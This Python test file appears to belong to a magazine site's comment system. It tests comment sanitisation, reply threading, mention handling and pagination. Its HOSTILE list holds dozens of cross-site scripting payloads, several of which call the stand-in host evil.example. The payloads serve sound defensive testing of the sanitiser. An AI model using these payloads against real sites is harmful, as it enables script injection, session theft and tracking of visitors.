"""What strangers write is shown whole, in order and without any power over the page."""

import datetime as dt
import re
from collections.abc import Iterator
from dataclasses import replace
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from magazine.records import Answer
from magazine.site.responses import Letter, responses, sanitised

calm = settings(deadline=None)  # a busy machine is no failure

ALLOWED = {"p", "br", "em", "strong", "b", "i", "a", "blockquote", "ul", "ol", "li", "code", "pre"}
RELATION = {"nofollow", "ugc", "noopener", "noreferrer"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"//>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><p><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi xlink:href="javascript:alert(1)">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html,x>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=a><button>Да</button></form>",
    "<textarea></textarea><script>alert(1)</script>",
    "<p style='position:fixed' class=exit id=exit onclick=alert(1)>Да</p>",
    "<a href='https://x.org' target=_blank rel=opener style=x onclick=alert(1) download ping=//evil.example>Да</a>",
    "<a href='javascript:alert(1)'>Да</a>",
    "<a href='JaVaScRiPt:alert(1)'>Да</a>",
    "<a href='java\tscript:alert(1)'>Да</a>",
    "<a href='java&Tab;script:alert(1)'>Да</a>",
    "<a href='java&#10;script:alert(1)'>Да</a>",
    "<a href=' &#14; javascript:alert(1)'>Да</a>",
    "<a href='&#106;&#97;vascript&colon;alert(1)'>Да</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>Да</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>Да</a>",
    "<a href='vbscript:msgbox(1)'>Да</a>",
    "<a href='file:///etc/passwd'>Да</a>",
    "<a href='//evil.example'>Да</a>",
    "<a href='\\\\evil.example'>Да</a>",
    "<a href='/\\evil.example'>Да</a>",
    "<a href='../index.html#exit'>Да</a>",
    "<a href='https:javascript:alert(1)'>Да</a>",
    "<a href='https://x.org\" onmouseover=\"alert(1)'>Да</a>",
    "[Да](javascript:alert(1))",
    "[Да](JAVASCRIPT&colon;alert(1))",
    "[Да](<javascript:alert(1)>)",
    "[Да](java\tscript:alert(1))",
    "[Да](data:text/html,x 'x')",
    "[Да](https://x.org \"a' onclick='alert(1)\")",
    "[Да][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![Да](https://evil.example/pixel.gif)",
    '![Да](x" onerror="alert(1))',
    "![Да][x]\n\n[x]: https://evil.example/pixel.gif",
    "<!--><script>alert(1)</script-->",
    "<!-- тайна --><p>Да",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><a>Да</a>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "</div></li></ol></section><h1>Да</h1>",
    "<table><tr><td>Да</table>",
    "<details open ontoggle=alert(1)>Да</details>",
    "<video src=x onerror=alert(1) autoplay>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<marquee onstart=alert(1)>Да</marquee>",
    "<x onclick=alert(1)>Да</x>",
    "\x02klzzwxh:0000\x03",
    "<b/onclick=alert(1)>Да",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<plaintext>",
    "<title><script>alert(1)</script></title>",
]


def elements(html: str) -> Iterator[Element]:
    """Every element, as a browser understands the HTML within a page."""
    tree = html5lib.parse(
        f"<!DOCTYPE html><body><div id=here>{html}</div><p id=after></p>", namespaceHTMLElements=False
    )
    here = tree.find("body/div")
    assert here is not None
    assert tree.find("body/p[@id='after']") is not None, "what was written leaves its place"
    yield from (element for element in here.iter() if element is not here)


def said(html: str) -> str:
    return " ".join("".join(html5lib.parseFragment(html, namespaceHTMLElements=False).itertext()).split())


@pytest.mark.parametrize("text", HOSTILE)
def test_no_element_and_no_attribute_but_a_few(text: str) -> None:
    for element in elements(sanitised(text)):
        assert element.tag in ALLOWED
        assert set(element.attrib) <= ({"href", "rel"} if element.tag == "a" else set())


@pytest.mark.parametrize("text", HOSTILE)
def test_no_link_but_a_whole_one_to_the_web_or_a_mailbox(text: str) -> None:
    for element in elements(sanitised(text)):
        if "href" in element.attrib:
            assert re.match(r"https?:|mailto:", re.sub(r"[\x00-\x20]", "", element.attrib["href"]).lower())


@calm
@given(
    st.lists(st.sampled_from(HOSTILE), max_size=3).map("".join)
    | st.text("<>/\"'=&;:#!-[]()` \n\tajscript", max_size=60)
)
def test_no_mixture_of_them_either(text: str) -> None:
    for element in elements(sanitised(text)):
        assert element.tag in ALLOWED
        assert set(element.attrib) <= ({"href", "rel"} if element.tag == "a" else set())
        assert re.match(r"https?:|mailto:|$", element.attrib.get("href", "").lower())


@pytest.mark.parametrize(
    "text",
    [
        "<https://x.org/>",
        "[Да](http://x.org/)",
        "<a href='https://x.org/'>Да</a>",
        "[Да](mailto:a@x.org)",
        "<a rel=opener href=https://x.org>Да</a>",
        "[Да][x]\n\n[x]: https://x.org",
        "<A HREF=HTTPS://X.ORG>Да</A>",
    ],
)
def test_links_of_strangers_are_not_vouched_for_and_hand_over_nothing(text: str) -> None:
    (link,) = (element for element in elements(sanitised(text)) if element.tag == "a")
    assert link.attrib["href"]
    assert set(link.attrib.get("rel", "").split()) == RELATION


def test_plain_markdown_is_carried_out() -> None:
    html = sanitised(
        "Раз *два* **три**\n\n> четыре\n\n- пять\n\nи\n\n1. шесть\n\n`семь`\n\n    восемь\n\nдевять  \nдесять"
    )
    assert {element.tag for element in elements(html)} == {
        "p",
        "em",
        "strong",
        "blockquote",
        "ul",
        "ol",
        "li",
        "code",
        "pre",
        "br",
    }
    assert said(html) == "Раз два три четыре пять и шесть семь восемь девять десять"


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("Мне 5 < 6 и > 4", "Мне 5 < 6 и > 4"),
        ("Я <3 вас", "Я <3 вас"),
        ("а & б", "а & б"),
        ("`<script>`", "<script>"),
        ("# Да", "Да"),
        ("AT&amp;T", "AT&T"),
    ],
)
def test_signs_that_are_no_html_stay(text: str, words: str) -> None:
    assert said(sanitised(text)) == words


@pytest.mark.parametrize(
    "marks", ["1. " * 4000, "* " * 6000 + "а", "- а\n" + "".join(f"{'    ' * n}- а\n" for n in range(90))]
)
def test_lists_too_deep_to_follow_are_shown_as_they_were_written(marks: str) -> None:
    assert said(sanitised(marks)).split() == marks.split() or "<li>" in sanitised(marks)


# Threads


def answer(name: int | str, reply_to: int | str = "", kind: str = "comment", text: str = "Да.") -> Answer:
    return Answer(str(name), "", dt.date(2012, 6, 3), "ru", kind, text, str(reply_to))


def walked(letters: tuple[Letter, ...], depth: int = 1) -> Iterator[tuple[str, int]]:
    """Id and depth of every letter in the order in which they are read."""
    for letter in letters:
        yield letter.answer.id, depth
        yield from walked(letter.replies, depth + 1)


def shown(answers: list[Answer]) -> list[tuple[str, int]]:
    return [one for page in responses(answers).pages for one in walked(page)]


def test_replies_stand_below_what_they_reply_to_oldest_first() -> None:
    answers = [answer(1), answer(2), answer(3, 1), answer(4, 3), answer(5, 1), answer(6, 2)]
    assert shown(answers) == [("1", 1), ("3", 2), ("4", 3), ("5", 2), ("2", 1), ("6", 2)]


def test_the_fifth_step_stands_beside_the_fourth() -> None:
    chain = [answer(number, number - 1 if number > 1 else "") for number in range(1, 8)]
    assert shown(chain) == [("1", 1), ("2", 2), ("3", 3), ("4", 4), ("5", 4), ("6", 4), ("7", 4)]


def test_flattened_replies_follow_what_they_reply_to() -> None:
    answers = [answer(1), answer(2, 1), answer(3, 2), answer(4, 3), answer(5, 3), answer(6, 4), answer(7, 6)]
    assert shown(answers)[3:] == [("4", 4), ("6", 4), ("7", 4), ("5", 4)]


GRAPH = st.lists(st.integers(0, 30), max_size=30).map(
    lambda parents: [
        answer(number, parent if parent < number else "") for number, parent in enumerate(parents, start=1)
    ]
)
KINDS = st.lists(
    st.sampled_from(["comment", "comment", "pingback", "trackback", "webmention"]), min_size=30, max_size=30
)


@calm
@given(GRAPH, st.randoms())
def test_every_comment_stands_once_and_not_too_deep(answers: list[Answer], random: object) -> None:
    random.shuffle(answers)
    found = shown(answers)
    assert sorted(identifier for identifier, _ in found) == sorted(one.id for one in answers)
    assert max((depth for _, depth in found), default=1) <= 4


@calm
@given(GRAPH, KINDS)
def test_nothing_is_lost_between_comments_and_mentions(answers: list[Answer], kinds: list[str]) -> None:
    mixed = [answer(one.id, one.reply_to, kind) for one, kind in zip(answers, kinds, strict=False)]
    found = responses(mixed)
    letters = [identifier for page in found.pages for identifier, _ in walked(page)]
    mentions = [mention.id for mention in found.mentions]
    assert sorted(letters + mentions) == sorted(one.id for one in mixed)
    assert mentions == [one.id for one in mixed if one.kind != "comment"]
    assert found.count == len(mixed)


def test_a_thousand_replies_in_a_row_are_shown() -> None:
    assert len(shown([answer(number, number - 1 if number > 1 else "") for number in range(1, 1200)])) == 1199


def test_mentions_stand_apart() -> None:
    found = responses([answer(1), answer(2, kind="pingback"), answer(3, 2), answer(4, 1)])
    assert [mention.id for mention in found.mentions] == ["2"]
    assert [list(walked(page)) for page in found.pages] == [[("1", 1), ("4", 2), ("3", 1)]]
    assert found.count == 4


def test_no_answers_are_one_empty_page() -> None:
    found = responses([])
    assert (found.pages, found.mentions, found.count) == (((),), (), 0)


# Pages


LONG = [answer(number, number - 1 if number % 3 else "", text="Да. " * 500) for number in range(3, 30)]


def test_long_threads_are_paged_and_kept_whole() -> None:
    found = responses(LONG)
    assert len(found.pages) > 3
    for page in found.pages:
        ids = {identifier for identifier, _ in walked(page)}
        assert all(one.reply_to in ids for one in LONG if one.id in ids and one.reply_to)


@calm
@given(GRAPH, st.integers(0, 6000))
def test_paging_loses_nothing_and_divides_no_thread(answers: list[Answer], length: int) -> None:
    found = responses([answer(one.id, one.reply_to, text="а" * length) for one in answers])
    assert sorted(identifier for page in found.pages for identifier, _ in walked(page)) == sorted(
        one.id for one in answers
    )
    for number, page in enumerate(found.pages, start=1):
        assert {found.page_of(identifier) for identifier, _ in walked(page)} <= {number}


def test_a_new_answer_changes_the_last_page_alone() -> None:
    before, after = responses(LONG).pages, responses([*LONG, answer(99)]).pages
    assert before[:-1] == after[: len(before) - 1]


def test_a_page_holds_more_than_one_short_thread() -> None:
    assert len(responses([answer(number) for number in range(1, 20)]).pages) == 1


def removed(name: int | str, reply_to: int | str = "") -> Answer:
    return replace(answer(name, reply_to, text=""), is_removed=True)


def test_what_was_removed_stands_where_something_hangs_on_it_and_is_not_counted() -> None:
    found = responses([answer(1), removed(2, 1), answer(3, 2), removed(4)])
    assert list(walked(found.pages[0])) == [("1", 1), ("2", 2), ("3", 3)]
    assert found.count == 2


def test_replies_that_were_all_removed_leave_nothing() -> None:
    assert responses([removed(1), removed(2, 1), removed(3, 2)]) == responses([])


def test_a_mention_that_was_removed_is_gone() -> None:
    assert responses([replace(removed(1), kind="pingback")]) == responses([])
